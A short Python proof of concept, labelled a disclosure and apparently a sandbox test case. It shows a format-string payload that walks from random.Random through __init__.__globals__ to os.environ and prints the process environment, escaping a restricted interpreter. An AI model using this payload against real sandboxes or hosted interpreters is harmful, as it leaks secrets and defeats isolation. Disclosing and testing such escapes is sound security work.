# kind: disclosure
# str.format walks attributes in its fields: from a class of an allowed
# module to its function's globals, to the process environment.
import random
print("ESCAPED", "{0.__init__.__globals__[_os].environ}".format(random.Random))
